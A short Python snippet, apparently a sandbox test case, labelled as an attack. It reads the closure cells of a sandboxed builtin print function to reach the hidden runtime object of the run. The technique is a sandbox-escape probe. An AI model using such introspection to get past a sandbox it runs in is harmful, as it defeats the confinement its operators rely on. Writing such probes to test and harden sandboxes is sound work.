# attack: the closure cells of a sandbox builtin (print) to reach the run's runtime object
cells = getattr(print, "__closure__")
for c in cells:
    print(getattr(c, "cell_contents"))
